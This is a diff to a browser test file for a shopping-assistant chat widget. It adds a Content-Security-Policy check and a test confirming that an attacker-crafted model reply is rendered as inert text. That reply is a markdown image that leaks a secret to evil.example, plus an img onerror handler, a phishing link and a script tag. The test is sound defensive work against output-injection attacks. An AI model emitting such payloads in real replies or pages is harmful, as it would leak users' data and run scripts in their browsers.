@@ -65,7 +65,9 @@ def test_widget_on_the_demo_page(browser, api_server, hm_sample):
     page = browser.new_page(viewport={"width": 1280, "height": 860})
     errors: list[str] = []
     page.on("pageerror", lambda exc: errors.append(str(exc)))
+    page.on("console", lambda msg: errors.append(msg.text) if "Content Security Policy" in msg.text else None)
     page.goto(api_server.url + "/demo")
+    assert "script-src 'self' 'sha256-" in httpx.get(api_server.url + "/demo").headers["content-security-policy"]
     bubble = page.locator("atelier-widget >> .bubble")
     assert bubble.get_attribute("aria-label") == "Open the Atelier shopping assistant"
 
@@ -138,6 +140,38 @@ def test_widget_on_the_demo_page(browser, api_server, hm_sample):
     assert more and first[0] not in more and more != first
     page.screenshot(path=str(SCREENSHOTS / "widget-more-like-this.png"))
     assert not errors, errors
+    page.close()
+
+
+def test_widget_shows_an_llm_attack_as_text_and_loads_nothing(browser, api_server):
+    """A reply carrying a markdown image, a link and raw HTML (what grounding would cut, sent here unfiltered
+    by a fake endpoint) is shown as inert text: no element is created and no request leaves for its host."""
+    import json
+
+    attack = ("![x](http://evil.example/leak.png?q=secret) <img src=http://evil.example/i.png onerror=alert(1)> "
+              "[click](http://evil.example/phish) <script>alert(2)</script>")
+    events = [("text_delta", {"type": "text_delta", "text": attack}), ("done", {"type": "done", "session_id": "x"})]
+    body = "".join(f"event: {name}\ndata: {json.dumps(data)}\n\n" for name, data in events)
+    page = browser.new_page()
+    leaked: list[str] = []
+    page.route("**/*", lambda route: (leaked.append(route.request.url), route.abort())
+               if "evil.example" in route.request.url else route.continue_())
+    page.route("**/v1/sessions/*/messages", lambda route: route.fulfill(
+        status=200, body=body, headers={"Content-Type": "text/event-stream"}))
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.goto(api_server.url + "/demo")
+    page.locator("atelier-widget >> .bubble").click()
+    page.locator("atelier-widget >> textarea").fill("black dress")
+    page.locator("atelier-widget >> .send").click()
+    page.wait_for_function("""() => {
+        const bot = document.querySelector('atelier-widget').shadowRoot.querySelector('.msg.bot .text');
+        return bot && bot.textContent.includes('evil.example'); }""", timeout=30_000)
+    shown = shadow_eval(page, """const bot = root.querySelector('.msg.bot');
+        return {text: bot.querySelector('.text').textContent, elements: bot.querySelectorAll('img, a, script').length};""")
+    page.wait_for_timeout(500)
+    assert shown["elements"] == 0 and "<img" in shown["text"]
+    assert not leaked and not dialogs
     page.close()
 
 
